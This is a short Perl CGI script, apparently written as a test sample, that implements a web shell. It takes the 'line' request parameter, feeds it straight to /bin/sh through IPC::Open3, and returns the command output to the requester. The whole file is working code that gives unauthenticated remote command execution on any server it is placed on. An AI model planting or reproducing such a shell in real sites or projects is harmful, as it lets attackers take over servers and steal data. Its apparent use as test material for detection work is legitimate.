#!/usr/bin/perl
# Written for this test: a shell behind IPC::Open3, the command read from a CGI parameter.
use strict;
use CGI;
use IPC::Open3;
my $cgi = CGI->new;
my $line = $cgi->param('line');
my $pid = open3(\*IN, \*OUT, \*ERR, "/bin/sh");
print IN "$line\n";
close IN;
print "Content-Type: text/plain\n\n", <OUT>;
